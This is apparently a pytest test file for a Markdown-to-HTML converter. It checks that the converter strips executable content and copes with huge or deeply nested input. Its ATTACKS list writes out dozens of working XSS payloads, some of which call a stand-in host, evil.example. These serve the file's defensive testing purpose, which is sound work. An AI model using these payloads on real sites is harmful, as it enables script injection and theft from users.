"""Articles made to run a script, to last for hours or to crash are only articles."""

from __future__ import annotations

import html.parser
import re
import sys
import threading
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator import gating, markup, sanitising, strain
from generator.markup import convert_the_long_way, to_html

BAD_TAGS = set(
    "script style iframe object embed applet form input button textarea select base meta link svg math"
    " template frame frameset noscript title marquee dialog portal".split()
)

CONTROLS = "".join(map(chr, range(33)))


class Inspector(html.parser.HTMLParser):
    """What a page holds that it should not."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in BAD_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            # As a browser reads a URL: tabs and line ends go, and what stands before it.
            said = re.sub(r"[\t\r\n]", "", value or "").lstrip(CONTROLS).lower()
            if name.startswith("on") or name in {
                "srcdoc",
                "formaction",
                "action",
                "srcset",
                "target",
                "ping",
            }:
                self.found.append(name)
            if name in {"href", "src", "cite", "poster"} and not _is_harmless(said):
                self.found.append(f"{name}={value}")
            if name == "style":
                self.found.append(f"{name}={value}")


def _is_harmless(url: str) -> bool:
    scheme, colon, _ = url.partition(":")
    return not colon or scheme in sanitising.URL_SCHEMES or not re.fullmatch(r"[a-z][a-z0-9+.-]*", scheme)


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)//",
    "<p onclick='alert(1)'>text</p>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</div>",
    "<table><tr><td style='text-align:left;position:fixed'>x</td></tr></table>",
    "<form action='//evil.example/'><input name=password><button formaction=javascript:x>Go</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='jAvA\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='https://example.org' target=_blank ping='//evil.example'>x</a>",
    "<img srcset='javascript:x 1x' src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<video poster=javascript:alert(1)><source src=javascript:alert(1) onerror=alert(1)></video>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "<a\x00href=javascript:alert(1)>x",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    '![" onerror="alert(1)](x)',
    '[x](/u"onclick="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "text\n{: onclick=alert(1) style=position:fixed }",
    "*x*{onmouseover=alert(1) href=javascript:alert(1)}",
    "# x {onclick=alert(1)}",
    "[x](/u){target=_blank onclick=alert(1) href=javascript:alert(1)}",
    "```{onclick=alert(1) style=x}\ncode\n```",
    '``` x"onclick=alert(1)\ncode\n```',
    "[^<script>]: x\n\n[^<script>]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "\x02wzxhzdk:0\x03<script>\x02amp\x03",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_that_runs(attack: str) -> None:
    for text in (
        attack,
        f"Before {attack} after",
        f"> - {attack}",
        f"Fine prose.\n\n{attack}\n\nMore prose.",
    ):
        assert Inspector(to_html(text)).found == []


def test_the_inspector_sees_attacks() -> None:
    page = "<p onclick=x><script></script><a href='java&#115;cript:x'><img src=data:x style=top:0>"
    assert Inspector(page).found == ["onclick", "script", "href=javascript:x", "src=data:x", "style=top:0"]


@given(
    st.lists(st.sampled_from([*ATTACKS, "\n\n", "*", "[", "](", ")", "`", "> ", " "]), max_size=6).map(
        "".join
    )
)
def test_attacks_together_leave_nothing_that_runs(text: str) -> None:
    assert Inspector(to_html(text)).found == []


def test_the_words_of_a_form_are_kept_and_those_of_a_script_are_not() -> None:
    written = to_html(
        "<form><p>The whole story.</p></form><script>let story</script><svg>x<desc>y</desc></svg>"
    )
    assert written.split() == ["<p>The", "whole", "story.</p>", "<p></p>"]


def test_harmless_html_stays() -> None:
    page = '<figure><img alt="Quay" loading="lazy" src="/quay.jpg"><figcaption>Quay</figcaption></figure>'
    assert to_html(page) == page


def test_links_get_no_rel_and_keep_harmless_schemes() -> None:
    for url in ("https://example.org/", "mailto:a@example.org", "tel:+4412", "/x", "../x", "#x", "//host/x"):
        assert to_html(f"[x]({url})") == f'<p><a href="{url}">x</a></p>'


def text_of(page: str) -> str:
    parser = html.parser.HTMLParser()
    said: list[str] = []
    parser.handle_data = said.append  # type: ignore[method-assign]
    parser.feed(page)
    parser.close()
    return "".join(said)


MANY = 100_000
HUGE = {
    "one paragraph of 1 MB": ("word " * 200_000 + "end", "end"),
    "one paragraph of 1 MB with a tag": ("word " * 200_000 + "<b>end</b>", "end"),
    "open brackets": ("x" + "[" * MANY + "end", "end"),
    "open images": ("x" + "![" * MANY + "end", "end"),
    "nested brackets": ("[" * MANY + "end" + "]" * MANY, "end"),
    "nested links": ("[" * MANY + "end" + "](/u)" * MANY, "end"),
    "open links": ("[a](" * MANY + "end", "end"),
    "closed labels": ("[a] " * MANY + "end", "end"),
    "footnote references": ("[^1] " * MANY + "end\n\n[^1]: note", "end"),
    "asterisks": ("x" + "*" * MANY + "end", "end"),
    "open emphasis": ("*a " * MANY + "end", "end"),
    "closed emphasis": ("*a* " * MANY + "end", "end"),
    "quote signs": (">" * MANY + "end", "end"),
    "quote signs apart": ("> " * MANY + "end", "end"),
    "list marks": ("- " * MANY + "end", "end"),
    "open tags": ("<a " * MANY + "end", "end"),
    "closed tags": ("<div>" * MANY + "end", "end"),
    "comments": ("<!-- " * MANY + "end", "end"),
    "declarations": ("<![CDATA[" * MANY + "end", "end"),
    "open addresses": ("<http://a" * MANY + "end", "end"),
    "entities": ("&amp;" * MANY + "end", "end"),
    "half entities": ("&#" * MANY + "end", "end"),
    "headings": ("# a\n" * MANY + "end", "end"),
    "underlined headings": ("a\n=\n" * MANY + "end", "end"),
    "rules": ("---\n" * MANY + "end", "end"),
    "open fences": ("``` x\n" * MANY + "end", "end"),
    "backticks in a table": ("|`" * MANY + "\n" + "|-" * MANY + "\n\nend", "end"),
    "items of a list": ("- a\n" * 20_000 + "- end", "end"),
    "blank lines": ("a" + "\n" * MANY + "end", "end"),
    "spaces": ("a" + " " * MANY + "end", "end"),
    "pipes": ("|" * MANY + "\nend", "end"),
    "backslashes": ("\\" * MANY + "end", "end"),
    "intraword underscores": ("a_" * MANY + "end", "end"),
}


@pytest.mark.parametrize("name", HUGE)
def test_a_huge_text_ends_soon_and_keeps_its_words(name: str) -> None:
    """No clock here: what grew with the square of these lengths would take minutes to hours."""
    text, word = HUGE[name]
    html = to_html(text)
    assert word in text_of(html) or word in html


@pytest.mark.parametrize(
    "text",
    [
        "\n".join("    " * depth + "- deep" for depth in range(500)),
        "- " * 500 + "deep",
        "> " * 500 + "deep",
        ">" * 500 + "deep",
        "[" * 400 + "deep" + "](/u)" * 400,
        "*a _b " * 300 + "deep" + " b_ a*" * 300,
        "\n".join(f"{'    ' * depth}deep\n{'    ' * depth}: deep" for depth in range(300)),
        "<b>" * 500 + "deep",
    ],
)
def test_text_nested_hundreds_deep_is_kept(text: str) -> None:
    assert "deep" in text_of(to_html(text))


def test_text_nested_too_deep_comes_out_as_written() -> None:
    text = "\n".join("    " * depth + "- a < b" for depth in range(400)) + "\n\n- [plain](/u)"
    assert text_of(to_html(text)).startswith(text.split("\n\n")[0])
    assert to_html(text) == convert_the_long_way(text)


def test_too_deep_a_text_leaves_nothing_behind_for_the_next() -> None:
    before = to_html("a\n\n    code\n\n[x][y]")
    to_html("\n".join("    " * depth + "- [x][y]" for depth in range(400)))
    assert to_html("a\n\n    code\n\n[x][y]") == before


def at_depth(frames: int, call: Callable[[], str]) -> str:
    return at_depth(frames - 1, call) if frames else call()


@pytest.mark.parametrize(
    "text",
    [
        "> " * (strain.DEEPEST - 1) + "deep",
        "> " * (strain.DEEPEST + 1) + "deep",
        "\n".join("    " * depth + "- deep" for depth in range(120)),
        "\n".join("    " * depth + "- deep" for depth in range(220)),
        "[" * 150 + "deep" + "](/u)" * 150,
    ],
)
def test_the_caller_s_depth_changes_no_byte(text: str) -> None:
    shallow: list[str] = []
    thread = threading.Thread(target=lambda: shallow.append(to_html(text)))
    thread.start()
    thread.join()
    used = len(_frames())
    assert [at_depth(400 - used, lambda: to_html(text))] == shallow


def _frames() -> list[object]:
    frame: object = sys._getframe()
    frames = []
    while frame is not None:
        frames.append(frame)
        frame = frame.f_back  # type: ignore[attr-defined]
    return frames


def test_an_ordinary_long_article_is_not_taken_for_an_attack() -> None:
    links = (
        "See [the harbour log](https://example.org/log/) for *more*, and <b>mind</b> the [note].\n\n" * 3000
    )
    rows = "Port | Boats\n--- | ---\n" + "[Wick](/wick) | `12`\n" * 2000
    items = "".join(f"- [boat {number}](/boats/{number}) and <i>more</i>\n" for number in range(5000))
    code = "```\ncode\n```\n\nprose\n\n" * 500
    for text in (links, rows, items, code):
        assert not strain.is_strained(text)


def test_plain_text_keeps_every_word_and_paragraph() -> None:
    page = strain.as_plain_text("a <b> & c\nd\n\n\n  e\n \nf")
    assert page == "<p>a &lt;b&gt; &amp; c\nd</p>\n<p>  e</p>\n<p>f</p>"


def test_articles_may_be_set_in_several_threads() -> None:
    texts = [f"Boat {number}[^n]\n\n[^n]: note {number}\n\n> quote\n\n[x][y]" for number in range(40)]
    alone = [to_html(text) for text in texts]
    together: dict[int, str] = {}

    def work(first: int) -> None:
        for number in range(first, len(texts), 4):
            together[number] = to_html(texts[number])

    threads = [threading.Thread(target=work, args=(first,)) for first in range(4)]
    usual = sys.getswitchinterval()
    try:
        # They take turns within each text.
        sys.setswitchinterval(1e-5)
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    finally:
        sys.setswitchinterval(usual)
    assert [together[number] for number in range(len(texts))] == alone


def test_machines_are_bounded() -> None:
    assert gating._fitted.cache_info().maxsize == 1 << len(gating.GATES)
    assert markup.DEFAULT
